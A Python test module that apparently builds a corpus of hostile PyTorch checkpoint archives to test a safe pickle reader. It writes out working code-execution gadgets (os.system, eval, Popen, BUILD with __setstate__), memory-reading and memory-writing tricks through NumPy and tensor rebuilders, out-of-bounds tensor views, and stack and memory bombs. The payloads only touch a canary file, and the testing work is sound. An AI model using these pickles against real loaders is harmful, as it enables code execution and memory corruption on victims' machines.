"""Pickles that call, and pickles that lie about the tensors of an archive.

Written opcode by opcode, since no pickler would write them.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from attacks import CANARY, attack, register

PROTO, STOP = b"\x80\x02", b"."
REDUCE, BUILD, NEWOBJ = b"R", b"b", b"\x81"
TUPLE1, TUPLE2 = b"\x85", b"\x86"
DEEP = TUPLE1 * 200_000  # a hash needs 40 bytes of a stack of 8 MiB for each to overflow it; CPython takes 64


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<L", len(data)) + data


def number(value: int) -> bytes:
    size = value.bit_length() // 8 + 1
    data = value.to_bytes(size, "little", signed=True)
    return b"\x8a" + bytes([size]) + data if size < 256 else b"\x8b" + struct.pack("<l", size) + data


class Raw(bytes):
    """Opcodes that leave one object on the stack."""


def opcodes(value: Any) -> bytes:
    if isinstance(value, Raw):
        return value
    if isinstance(value, str):
        return text(value)
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    if isinstance(value, int):
        return number(value)
    if isinstance(value, tuple):
        return b"(" + b"".join(map(opcodes, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(opcodes, value)) + b"e"
    assert isinstance(value, dict)
    return b"}(" + b"".join(opcodes(k) + opcodes(v) for k, v in value.items()) + b"u"


def name(what: str) -> Raw:
    module, _, attribute = what.rpartition(".")
    return Raw(f"c{module}\n{attribute}\n".encode())


def call(function: str | Raw, *arguments: Any) -> Raw:
    return Raw(opcodes(name(function) if not isinstance(function, Raw) else function) + opcodes(arguments) + REDUCE)


def storage(key: Any = "0", numel: Any = 4, kind: str = "torch.FloatStorage", device: Any = "cpu") -> Raw:
    return Raw(opcodes(("storage", name(kind), key, device, numel)) + b"Q")


def tensor(
    offset: Any = 0,
    size: Any = (4,),
    stride: Any = (1,),
    key: Any = "0",
    numel: Any = 4,
    kind: str = "torch.FloatStorage",
) -> Raw:
    hooks = call("collections.OrderedDict")
    return call("torch._utils._rebuild_tensor_v2", storage(key, numel, kind), offset, size, stride, False, hooks)


def archive(folder: Path, obj: Any, records: Mapping[str, bytes] | None = None) -> Path:
    """An archive of torch.save with this object, opcodes or whole pickle, and a storage of four floats."""
    pickle = obj if isinstance(obj, bytes) and not isinstance(obj, Raw) else PROTO + opcodes(obj) + STOP
    path = folder / "x.pt"
    with zipfile.ZipFile(path, "w") as file:
        entries = {
            "data.pkl": pickle,
            "byteorder": b"little",
            "version": b"3\n",
            **(records or {"data/0": b"\0\0\x80?" * 4}),
        }
        for entry, data in entries.items():
            file.writestr(zipfile.ZipInfo(f"archive/{entry}"), data)
    return path


def hostile(
    name: str,
    sentence: str,
    obj: Any,
    records: Mapping[str, bytes] | None = None,
    harmless: str = "",
    trap: bool = False,
) -> None:
    """Registers the attack ``archive(folder, obj, records)``. ``obj`` may be a function of the folder."""

    def make(folder: Path) -> Path:
        return archive(folder, obj(folder) if callable(obj) else obj, records)

    register(make, f"pickles.{name}", sentence, harmless=harmless, trap=trap)


def system(folder: Path) -> bytes:
    return PROTO + call("os.system", f"touch '{folder / CANARY}'") + STOP


# Gadgets
hostile("os_system", "The plainest gadget: a call of os.system.", lambda folder: system(folder), trap=True)
hostile(
    "posix_system",
    "The same function under the name of the module that it is from.",
    lambda folder: {"x": call("posix.system", f"touch '{folder / CANARY}'")},
    trap=True,
)
hostile(
    "builtins_eval",
    "builtins.eval of an expression.",
    lambda folder: {"x": call("builtins.eval", f"open({str(folder / CANARY)!r}, 'w')")},
    trap=True,
)
hostile(
    "old_builtins_exec",
    "exec under Python 2's name for builtins, which unpicklers translate.",
    lambda folder: {"x": call("__builtin__.eval", f"open({str(folder / CANARY)!r}, 'w')")},
    trap=True,
)
hostile(
    "subprocess_popen",
    "A class whose making is a call.",
    lambda folder: {"x": call("subprocess.Popen", ["touch", str(folder / CANARY)])},
    trap=True,
)
hostile(
    "getattr_chain",
    "getattr climbs from a module that looks harmless to os.system.",
    lambda folder: call(
        call("builtins.getattr", call("importlib.import_module", "os"), "system"), f"touch '{folder / CANARY}'"
    ),
    trap=True,
)
hostile(
    "dotted_name",
    "A name with a dot in it: torch, then serialization.os.system.",
    lambda folder: call(Raw(b"ctorch\nserialization.os.system\n"), f"touch '{folder / CANARY}'"),
)


@attack(trap=True)
def stack_global(folder: Path) -> Path:
    """The newer opcode that takes module and name from the stack, in protocol 4."""
    function = Raw(text("os") + text("system") + b"\x93")
    return archive(folder, b"\x80\x04" + call(function, f"touch '{folder / CANARY}'") + STOP)


hostile(
    "inst_opcode",
    "INST, an opcode of 1995 which names and calls at once.",
    lambda folder: b"(" + text(f"touch '{folder / CANARY}'") + b"ios\nsystem\n.",
    trap=True,
)
hostile(
    "obj_opcode",
    "OBJ, its brother.",
    lambda folder: b"(cos\nsystem\n" + text(f"touch '{folder / CANARY}'") + b"o.",
    trap=True,
)


@attack(trap=True)
def newobj_of_a_function_that_is_none(folder: Path) -> Path:
    """NEWOBJ makes a Popen, BUILD and REDUCE are not needed."""
    made = name("pathlib.Path") + opcodes((str(folder / CANARY),)) + NEWOBJ
    return archive(folder, call(call("builtins.getattr", Raw(made), "touch")))


@attack(trap=True)
def build_with_setstate(folder: Path) -> Path:
    """BUILD on an object that was given a __setstate__ of the attacker's choice: os.system."""
    made = name("types.SimpleNamespace") + b")\x81"
    states = opcodes({"__setstate__": name("os.system")}) + BUILD + text(f"touch '{folder / CANARY}'") + BUILD
    return archive(folder, PROTO + made + states + STOP)


@attack(harmless="attributes of an object, which are never called")
def build_an_ordered_dict(folder: Path) -> Path:
    """BUILD, which is allowed for OrderedDict, replaces its methods by strings."""
    made = call("collections.OrderedDict") + opcodes({"items": 5, "keys": None, "__len__": 7}) + BUILD
    return archive(folder, {"model": Raw(made), "optimizer": Raw(made), "x": {}, "rng": Raw(made)})


@attack(trap=True)
def torch_load_nested(folder: Path) -> Path:
    """A call of torch.load on another file, with weights_only=False."""
    inner = folder / "inner.pt"
    archive(folder, system(folder)).rename(inner)
    return archive(folder, {"x": call("torch.load", str(inner), None, None)} if False else nested(inner))


def nested(inner: Path) -> dict[str, Any]:
    load = call("functools.partial", name("torch.load"))
    keywords = Raw(load + opcodes((name("torch.load"), (), {"weights_only": False}, {})) + BUILD)
    return {"x": call(keywords, str(inner))}


hostile("blocked_even_if_allowed", "sys.modules, from which everything can be had.", {"x": name("sys.modules")})
hostile(
    "torch_functions",
    "Functions of torch that compile, load or call: not on the list.",
    {"x": call("torch.hub.load", "x", "y"), "y": call("torch.utils.cpp_extension.load", "x", ["y"])},
)


@attack
def rebuild_from_type_of_a_function(folder: Path) -> Path:
    """_rebuild_from_type_v2 is allowed, and calls what it is given: a function that is not."""
    gadget = (name("os.system"), name("torch.Tensor"), (f"touch '{folder / CANARY}'",), {})
    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *gadget)})


hostile(
    "extension_codes",
    "EXT1, EXT2 and EXT4 name functions that a program has registered by number.",
    PROTO + b"(\x82\x01\x83\x02\0\x84\x03\0\0\0l.",
)
hostile("persistent_text", "A persistent id that is a line of text.", PROTO + b"Pmodule\n.")
hostile(
    "persistent_module",
    "A persistent id of another kind, as TorchScript's packages have: code.",
    {"x": Raw(opcodes(("module", "os", "system", "cpu", 1)) + b"Q")},
)
hostile(
    "persistent_nested",
    "A persistent id whose key is a tuple of itself, ten thousand deep.",
    {
        "x": Raw(
            opcodes(("storage", name("torch.FloatStorage")))[:-1]
            + b")"
            + TUPLE1 * 10_000
            + text("cpu")
            + number(4)
            + b"tQ"
        )
    },
)


# NumPy and the standard library, as far as lazyckpt reads them


def built(obj: Raw, state: Any) -> Raw:
    return Raw(obj + opcodes(state) + BUILD)


def in_bytes(value: bytes) -> Raw:
    return call("_codecs.encode", value.decode("latin-1"), "latin1")


def dtype(code: str, *state: Any) -> Raw:
    made = call("numpy.dtype", code, False, True)
    return built(made, state) if state else made


def array(shape: Any, kind: Raw, data: bytes) -> Raw:
    empty = call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), in_bytes(b"b"))
    return built(empty, (1, shape, kind, False, in_bytes(data)))


@attack
def array_of_pointers(folder: Path) -> Path:
    """An array of objects whose bytes are addresses, of a type whose flags say that it has none."""
    objects = dtype("O8", 3, "|", None, None, None, -1, -1, 0)
    return archive(folder, {"x": array((2,), objects, b"\1\0\0\0\0\0\0\0" * 2)})


@attack
def array_with_fields_of_objects(folder: Path) -> Path:
    """The same in a field: a type of eight bytes is given one."""
    fields = {"a": (dtype("O8"), 0)}
    kind = dtype("V8", 3, "|", None, ("a",), fields, 8, 1, 0)
    return archive(folder, {"x": array((2,), kind, b"\1\0\0\0\0\0\0\0" * 2)})


hostile(
    "dtype_of_any_size",
    "Text of five characters whose state says that an item has one byte.",
    {"x": array((2,), dtype("U5", 3, "<", None, None, None, 1, 4, 8), b"ab")},
)
hostile(
    "dtype_of_everybody",
    "Without a copy numpy.dtype returns NumPy's own, whose byte order is then changed.",
    {"x": built(call("numpy.dtype", "f8", False, False), (3, ">", None, None, None, -1, -1, 0))},
)
hostile(
    "array_of_nobodys_memory",
    "numpy.ndarray without a buffer shows what was in memory before.",
    {"x": call("numpy.ndarray", (1 << 20,), dtype("u1"))},
)
hostile(
    "array_by_newobj",
    "The same through NEWOBJ, and terabytes of it.",
    {"x": Raw(name("numpy.ndarray") + opcodes(((1 << 42,), dtype("u1"))) + NEWOBJ)},
)


@attack
def array_of_strides(folder: Path) -> Path:
    """numpy.ndarray with strides walks out of its buffer."""
    memory = call("numpy.asarray", tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage"))
    return archive(folder, {"x": call("numpy.ndarray", (16,), dtype("u1"), memory, 0, (1 << 20,), "C")})


@attack
def array_beyond_its_storage(folder: Path) -> Path:
    """An array that has more items than its storage."""
    memory = call("numpy.asarray", tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage"))
    return archive(folder, {"x": call("numpy.ndarray", (1 << 20,), dtype("f8"), memory, 0, None, "C")})


hostile(
    "array_of_empty_items",
    "Items without bytes: an array of any length takes none, and a set of it takes forever.",
    {"x": call("builtins.set", array((1 << 50,), dtype("S0"), b""))},
)


@attack
def array_of_a_wrapping_shape(folder: Path) -> Path:
    """A shape whose size wraps around to that of the bytes."""
    shape = ((1 << 63) - 1, 2, 1)
    return archive(folder, {"x": array(shape, dtype("u1"), b""), "y": array((-1, -4), dtype("u1"), b"abcd")})


@attack
def array_built_twice(folder: Path) -> Path:
    """A second state frees the memory that a view of the array still shows."""
    first = Raw(array((16,), dtype("u1"), b"0123456789abcdef") + b"q\x07")
    view = call("numpy.ndarray", (16,), dtype("u1"), Raw(b"h\x07"), 0, None, "C")
    again = built(Raw(b"h\x07"), (1, (1,), dtype("u1"), False, in_bytes(b"x")))
    return archive(folder, {"a": first, "b": view, "c": again})


@attack
def array_state_by_rebuild(folder: Path) -> Path:
    """A state through a function of torch that calls what it is given, and sets the state of what it gets."""
    make = name("numpy._core.multiarray._reconstruct")
    empty = (name("numpy.ndarray"), (0,), in_bytes(b"b"))
    state = (1, (1 << 50,), dtype("S0"), False, in_bytes(b""))
    made = call("torch._tensor._rebuild_from_type_v2", make, empty[0], empty, state)
    return archive(folder, {"x": call("builtins.set", made)})


hostile(
    "scalar_without_bytes",
    "A number whose bytes are not there.",
    {"x": call("numpy._core.multiarray.scalar", dtype("S999999999"), in_bytes(b""))},
)
hostile(
    "scalar_of_an_object",
    "A scalar of objects is whatever it is given.",
    {"x": call("numpy._core.multiarray.scalar", dtype("O8"), name("numpy.ndarray"))},
)


@attack
def view_of_wrapping_numbers(folder: Path) -> Path:
    """A tensor whose size and stride are numbers of NumPy with 32 bits: their product wraps around to 0."""
    size, stride = (
        call("numpy._core.multiarray.scalar", dtype("i4"), in_bytes(struct.pack("<i", n))) for n in (65_537, 65_536)
    )
    return archive(folder, {"x": tensor(0, (size,), (stride,))})


hostile(
    "path_of_anything",
    "A path made of an object that is no text.",
    {"x": call("pathlib.PosixPath", call("collections.OrderedDict"))},
)
hostile(
    "path_with_a_state",
    "BUILD on a path replaces its parts, or its class.",
    {"x": built(call("pathlib.PosixPath", "a"), (None, {"__class__": name("torch.Tensor")}))},
)
hostile(
    "date_out_of_range",
    "The year 0, whose day of the week is read from in front of a table.",
    {"x": call("datetime.datetime", in_bytes(b"\0\0\1\xff\xff\xff\xff\xff\xff\xff"))},
)
hostile("bytes_of_a_number", "bytes, given a number, makes 16 GiB of zeros.", {"x": call("builtins.bytes", 16 << 30)})


@attack
def frozen_set_of_a_deep_tuple(folder: Path) -> Path:
    """A frozen set hashes what it holds, by recursion."""
    deep = Raw(b"K\x01" + DEEP)
    return archive(folder, {"x": call("builtins.frozenset", [deep])})


# Memory, stack and time
hostile(
    "memo_index",
    "A memo with the index 2^31: the unpickler in C makes room for all below.",
    PROTO + b"Nr\xff\xff\xff\x7f.",
    harmless="the memo is a dict",
)
hostile("memo_missing", "A memo that was never put.", PROTO + b"h\x07.")
hostile("empty_stack", "Opcodes that pop an empty stack.", PROTO + b"\x85\x87Rbu.")
hostile("no_mark", "Opcodes that look for a mark which was never set.", PROTO + b"]K\x01eu.")
hostile("long_text", "A string of 4 GiB, of which five bytes are there.", PROTO + b"X\xff\xff\xff\xffhello.")
hostile(
    "long_bytearray",
    "BYTEARRAY8 of 64 GiB: room is made before it is read.",
    b"\x80\x05\x96" + struct.pack("<Q", 64 << 30) + b"x.",
)
hostile("long_frame", "A frame of 2^62 bytes.", b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.")
hostile("long_number", "LONG4 with a negative length.", PROTO + b"\x8b\xff\xff\xff\xff.")
hostile(
    "bytearray_of_a_number",
    "bytearray is allowed, for its bytes; given a number, it makes 16 GiB of zeros.",
    {"x": call("builtins.bytearray", 16 << 30)},
)
hostile(
    "bytearray_by_newobj",
    "The same through NEWOBJ.",
    {"x": Raw(name("builtins.bytearray") + opcodes((16 << 30,)) + NEWOBJ + opcodes({}) + BUILD)},
    harmless="bytearray.__new__ takes no notice of a length",
)


@attack
def bytearray_by_rebuild(folder: Path) -> Path:
    """The same through a function that calls what it is given."""
    rebuild = (name("builtins.bytearray"), name("builtins.bytearray"), (16 << 30,), {})
    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *rebuild)})


hostile("tensor_of_a_number", "torch.Tensor, given a number, is as long as that.", {"x": call("torch.Tensor", 1 << 40)})
hostile(
    "untyped_storage_of_a_number",
    "torch.storage.UntypedStorage, given a number, is as long as that.",
    {"x": call("torch.storage.UntypedStorage", 1 << 42)},
)


@attack
def tensors_that_share_their_sizes(folder: Path) -> Path:
    """Each of 500 tensors copies one tuple of 20,000 sizes: 43 kB of opcodes took 660 MiB."""
    sizes = opcodes((1,) * 20_000) + b"q\x00"
    rebuild, arguments = (
        name("torch._utils._rebuild_tensor_v2") + b"q\x01",
        opcodes((storage(), 0, Raw(b"h\0"), Raw(b"h\0"), False, call("collections.OrderedDict"))) + b"q\x02",
    )
    return archive(folder, Raw(b"](" + sizes + rebuild + arguments + b"h\x01h\x02R" * 500 + b"e"))


hostile(
    "hash_of_a_deep_tuple",
    "A key that is a tuple in a tuple in a tuple: its hash overflows the C stack, which no exception tells.",
    PROTO + b"})" + DEEP + b"Ns.",
)
hostile(
    "hash_of_a_deep_tuple_among_others",
    "The same among several keys that are set at once.",
    PROTO + b"}(NN)" + DEEP + b"Nu.",
)
hostile(
    "hash_of_a_deep_tuple_in_a_set",
    "The same as the member of a set, whose making is a call.",
    PROTO + name("builtins.set") + b"](" + b")" + DEEP + b"e" + TUPLE1 + REDUCE + STOP,
)


@attack
def hash_of_a_deep_tuple_by_rebuild(folder: Path) -> Path:
    """The same through a function that calls what it is given."""
    arguments = name("builtins.set") + name("builtins.set") + b"](" + b")" + DEEP + b"e" + TUPLE1 + b"N"
    return archive(
        folder, PROTO + name("torch._tensor._rebuild_from_type_v2") + b"(" + arguments + b"t" + REDUCE + STOP
    )


@attack
def hash_of_a_wide_tuple(folder: Path) -> Path:
    """A key that is a pair of a pair of a pair, all the same: its hash takes 2^64 steps."""
    pairs = b"".join(b"q%ch%c" % (n, n) + TUPLE2 for n in range(64))
    return archive(folder, PROTO + b"})" + pairs + b"Ns.")


@attack
def hash_of_a_deep_size(folder: Path) -> Path:
    """torch.Size makes tuples of lists: depth without an opcode for tuples."""
    deep = b")" + (TUPLE1 + b"q\0" + b"0" + name("torch.Size") + b"](h\0e" + TUPLE1 + REDUCE) * 60_000
    return archive(folder, PROTO + b"}" + deep + b"Ns.")


hostile(
    "deep_list",
    "A list a hundred thousand deep, for code that walks it by recursion.",
    PROTO + b"]" * 100_000 + b"a" * 99_999 + STOP,
    harmless="a tree may be as deep as a pickle without recursion makes it",
)


@attack(harmless="lists may be shared")
def a_billion_laughs(folder: Path) -> Path:
    """A list of ten lists of ten lists, all shared: 10^30 paths in a thousand bytes."""
    laughs = b"".join(b"q%c](" % n + b"h%c" % n * 10 + b"e" for n in range(30))
    return archive(folder, PROTO + text("ha") + laughs + STOP)


hostile(
    "long_paths",
    "One name of a megabyte above a hundred thousand values: their paths would take a hundred gigabytes.",
    {"a" * (1 << 20): Raw(b"](" + b"N" * 100_000 + b"](NeeNa" + b"")},
    harmless="names may be long",
)
hostile(
    "a_million_names",
    "Two hundred thousand different functions are named, each of which a reader may make an object for.",
    PROTO + b"(" + b"".join(b"ca\n%x\n0" % n for n in range(200_000)) + b"t.",
)
hostile(
    "slow_codec",
    "_codecs.encode is allowed, for bytes; some of its codecs are programs that take quadratic time.",
    {"x": call("_codecs.encode", "".join(chr(0x4E00 + n % 20000) for n in range(200_000)), "punycode")},
)


# Tensors
hostile("storage_missing", "A storage that is not in the archive.", {"x": tensor(key="7")})
hostile(
    "storage_by_a_number",
    "One storage by the key '0' and by the key 0: shared for one reader, two copies for another.",
    {"x": tensor(), "y": tensor(key=0)},
)
hostile(
    "storage_of_another_length",
    "A storage that declares more elements than its record has bytes for.",
    {"x": tensor(numel=5)},
)
hostile("storage_of_another_type", "The same by the size of its elements.", {"x": tensor(kind="torch.DoubleStorage")})
hostile("storage_negative", "A storage of minus four elements.", {"x": tensor(numel=-4)})
hostile(
    "storage_overflowing",
    "A storage of 2^62 + 4 elements of four bytes: sixteen bytes, in 64 bits.",
    {"x": tensor(numel=(1 << 62) + 4)},
)
hostile(
    "storage_above",
    "A storage whose key climbs out of its folder.",
    {"x": tensor(key="../version", numel=2, kind="torch.ByteStorage")},
)
hostile(
    "storage_on_a_strange_device",
    "A location that somebody may parse.",
    {"x": call("torch._utils._rebuild_tensor_v2", storage(device="cuda:999999999999"), 0, (4,), (1,), False, {})},
)
hostile("view_beyond", "A view that is longer than its storage.", {"x": tensor(size=(1 << 20,))})
hostile(
    "view_by_stride", "A view whose second element is behind the storage.", {"x": tensor(size=(2,), stride=(1 << 40,))}
)
hostile("view_by_offset", "An offset behind the storage.", {"x": tensor(offset=1 << 40, size=(1,))})
hostile("view_before", "An offset in front of the storage.", {"x": tensor(offset=-1, size=(1,))})
hostile("view_backwards", "A negative stride.", {"x": tensor(stride=(-1,))})
hostile("view_negative", "Negative sizes.", {"x": tensor(size=(-2, -2), stride=(1, 1))})
hostile(
    "view_overflowing",
    "Sizes and strides whose product overflows to something that fits.",
    {"x": tensor(size=(1 << 32, 1 << 32), stride=(1 << 32, 1))},
)
hostile(
    "view_of_big_numbers",
    "Sizes of twenty thousand bits: more digits than Python prints.",
    {"x": tensor(size=(1 << 20_000,))},
)
hostile(
    "view_of_a_hundred_thousand_dimensions",
    "A size with a hundred thousand dimensions of 62 bits, whose product somebody may compute.",
    {"x": tensor(size=(1 << 62,) * 100_000, stride=(1,) * 100_000)},
)
hostile(
    "view_of_text",
    "Sizes and strides that are text with escape sequences.",
    {"x": tensor(size=("\x1b[2J",), stride=("\x1b[2J",))},
)


@attack
def view_v3(folder: Path) -> Path:
    """The same lie through the function for dtypes without a storage type."""
    bytes_16 = storage(numel=16, kind="torch.storage.UntypedStorage")
    return archive(
        folder,
        {"x": call("torch._utils._rebuild_tensor_v3", bytes_16, 0, (1 << 20,), (1,), False, {}, name("torch.uint16"))},
    )


@attack
def view_by_legacy_build(folder: Path) -> Path:
    """BUILD on a tensor, as torch 0.1 pickled it, is set_() with the attacker's numbers."""
    made = call("torch.Tensor") + opcodes((storage(), 0, (1 << 20,), (1,))) + BUILD
    return archive(folder, {"x": Raw(made)})


hostile(
    "meta_tensor_overflowing",
    "A tensor without memory, of a size that overflows.",
    {
        "x": call(
            "torch._utils._rebuild_meta_tensor_no_storage", name("torch.float32"), (1 << 62, 1 << 62), (1, 1), False
        )
    },
)


@attack
def sparse_indices_outside(folder: Path) -> Path:
    """A sparse tensor of three elements with one at index 2^40: to_dense() writes there."""
    indices = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    values = tensor(key="0", size=(1,))
    layout = call("torch.serialization._get_layout", "torch.sparse_coo")
    made = call("torch._utils._rebuild_sparse_tensor", layout, (indices, values, call("torch.Size", (3,)), True))
    return archive(folder, {"x": made}, {"data/0": bytes(16), "data/1": struct.pack("<q", 1 << 40)})


@attack
def sparse_rows_outside(folder: Path) -> Path:
    """A compressed sparse tensor whose row pointers and columns lie."""
    rows = tensor(key="1", numel=4, size=(4,), kind="torch.LongStorage")
    columns = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
    layout = call("torch.serialization._get_layout", "torch.sparse_csr")
    made = call(
        "torch._utils._rebuild_sparse_tensor", layout, (rows, columns, tensor(size=(1,)), call("torch.Size", (3, 3)))
    )
    lies = {
        "data/0": bytes(16),
        "data/1": struct.pack("<4q", 0, 1 << 30, 1 << 31, 1),
        "data/2": struct.pack("<q", 1 << 40),
    }
    return archive(folder, {"x": made}, lies)


@attack
def nested_tensor_outside(folder: Path) -> Path:
    """A nested tensor over four floats whose parts begin a gigabyte behind them."""
    whole = tensor()
    sizes = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    strides = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    offsets = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
    made = call("torch._utils._rebuild_nested_tensor", whole, sizes, strides, offsets)
    lies = {"data/0": bytes(16), "data/1": struct.pack("<q", 1), "data/2": struct.pack("<q", 1 << 28)}
    return archive(folder, {"x": made}, lies)


@attack
def quantized_axis_outside(folder: Path) -> Path:
    """A quantised tensor of four elements with scales for two, along its hundredth dimension."""
    scheme = name("torch.per_channel_affine")
    scales = tensor(key="1", numel=2, size=(2,), kind="torch.DoubleStorage")
    zeros = tensor(key="2", numel=2, size=(2,), kind="torch.LongStorage")
    quantizer = (scheme, scales, zeros, 100)
    made = call(
        "torch._utils._rebuild_qtensor",
        storage(numel=4, kind="torch.QInt8Storage"),
        0,
        (4,),
        (1,),
        quantizer,
        False,
        {},
    )
    return archive(folder, {"x": made}, {"data/0": bytes(4), "data/1": bytes(16), "data/2": bytes(16)})


@attack(harmless="names and values may be any text; they are escaped where they are shown")
def escapes_in_names(folder: Path) -> Path:
    """Names and values that clear the screen, turn text around and write the clipboard."""
    evil = "\x1b[2J\x1b]52;c;YQ==\x07\u202e\x9b31m\x7f\r\n"
    return archive(folder, {evil: tensor(), "x": evil, "y": {evil: [tensor(), evil]}, "\ud800": 1})


hostile(
    "escapes_in_globals",
    "Functions whose names are escape sequences; who refuses them says so.",
    {"x": call(Raw(b"c\x1b[2J\n\x1b]0;owned\x07\n"), 1)},
)


@attack
def escapes_in_an_array(folder: Path) -> Path:
    """A NumPy array whose dtype and shape are escape sequences."""
    dtype = call("numpy.dtype", "\x1b[2J")
    return archive(
        folder, {"x": call("numpy.ndarray", ("\x1b[2J",), dtype, call("numpy.asarray", tensor())), "y": tensor()}
    )


@attack
def escapes_by_build(folder: Path) -> Path:
    """BUILD puts other attributes into what a reader has made of a tensor and its storage."""
    evil = {"dtype": "\x1b[2J", "shape": ("\x1b[2J",), "record": 5, "storage": "\x1b[2J", "kind": 7, "stride": {}}
    return archive(folder, {"x": Raw(tensor() + opcodes(evil) + BUILD), "y": Raw(storage() + opcodes(evil) + BUILD)})


@attack
def build_a_function(folder: Path) -> Path:
    """BUILD with slots sets attributes of a function: its defaults, which stay for the next file."""
    state = opcodes((None, {"__defaults__": (1, 2, 3), "__kwdefaults__": {}, "__doc__": "\x1b[2J"}))
    return archive(folder, {"x": Raw(name("torch._utils._rebuild_tensor_v2") + state + BUILD)})


hostile(
    "strange_keys",
    "Keys that cannot be hashed, and keys that are functions and tensors.",
    PROTO + b"}" + tensor() + b"Ns" + name("torch.Size") + b"Ns" + b"]Ns.",
)


def _tensor_with(attributes: dict[str, Any], function: str = "torch._utils._rebuild_tensor_v2", *arguments: Any) -> Raw:
    """A tensor that is given attributes when it is rebuilt."""
    own = storage("0", 16, "torch.ByteStorage"), 0, (16,), (1,), False, call("collections.OrderedDict")
    what = name(function), name("torch.Tensor"), arguments or own, attributes
    return call("torch._tensor._rebuild_from_type_v2", *what)


def _memory_at(address: int) -> Raw:
    """An array that NumPy takes to be at this address."""
    where = {"data": (address, False), "shape": (16,), "typestr": "|u1", "version": 3}
    return call("numpy.asarray", _tensor_with({"__array_interface__": where}))


hostile(
    "tensor_that_shows_memory", "An attribute by which NumPy takes any address for an array.", {"x": _memory_at(4096)}
)


@attack
def tensor_that_writes_memory(folder: Path) -> Path:
    """Setting ``Tensor.real`` copies into the memory of the tensor, which is that of an array at any address."""
    onto = "torch._utils._rebuild_device_tensor_from_numpy", _memory_at(4096), name("torch.uint8"), "cpu", False
    return archive(
        folder, {"x": _tensor_with({"real": tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage")}, *onto)}
    )


@attack
def parameter_whose_data_are_replaced(folder: Path) -> Path:
    """The same by the state of a parameter."""
    hooks = call("collections.OrderedDict")
    state = {"data": tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage")}
    return archive(folder, {"x": call("torch._utils._rebuild_parameter_with_state", tensor(), False, hooks, state)})


hostile(
    "array_of_too_many_dimensions",
    "NumPy has room for 64 lengths, and shows what lies behind them.",
    {"x": array((0,) * 200, dtype("u1"), b"")},
)
hostile(
    "rows_of_nothing_as_a_size",
    "An array without a byte has as many rows as it likes.",
    {"x": call("torch.Size", array((1 << 40, 0), dtype("u1"), b""))},
)
hostile(
    "rows_of_nothing_as_arguments",
    "The same where it is unpacked.",
    {"x": Raw(name("collections.OrderedDict") + array((1 << 40, 0), dtype("u1"), b"") + REDUCE)},
)


@attack
def sets_of_one_list(folder: Path) -> Path:
    """One list of 50,000 numbers, made into a set 10,000 times for four bytes each."""
    numbers = b"](" + b"".join(b"M" + struct.pack("<H", n) for n in range(50_000)) + b"e"
    sets = numbers + TUPLE1 + b"q\x02" + name("builtins.frozenset") + b"q\x01" + b"h\x01h\x02R" * 10_000
    return archive(folder, PROTO + b"](" + sets + b"e" + STOP)


@attack
def path_of_one_long_name(folder: Path) -> Path:
    """One name of 50,000 letters, joined to itself 75,000 times for two bytes each."""
    made = name("pathlib.PosixPath") + b"(" + text("a/" * 25_000) + b"q\x01" + b"h\x01" * 75_000 + b"t" + REDUCE
    return archive(folder, PROTO + made + STOP)


@attack
def tensor_set_to_more_than_there_is(folder: Path) -> Path:
    """The legacy way of building a tensor: the arguments of ``Tensor.set_``, which enlarges the storage."""
    state = opcodes((storage(), 0, (1 << 40,), (1,)))
    return archive(folder, {"x": Raw(tensor() + state + BUILD)})


@attack
def parameter_set_to_more_than_there_is(folder: Path) -> Path:
    """The same for a parameter."""
    state = opcodes((storage(), 0, (1 << 40,), (1,)))
    made = call("torch._utils._rebuild_parameter", tensor(), False, call("collections.OrderedDict"))
    return archive(folder, {"x": Raw(made + state + BUILD)})


hostile("a_pickle_of_nothing", "A pickle that ends before it has begun.", b"")


def innocent(folder: Path) -> Path:
    """What all of these pretend to be; read by everything."""
    return archive(folder, {"x": tensor()})
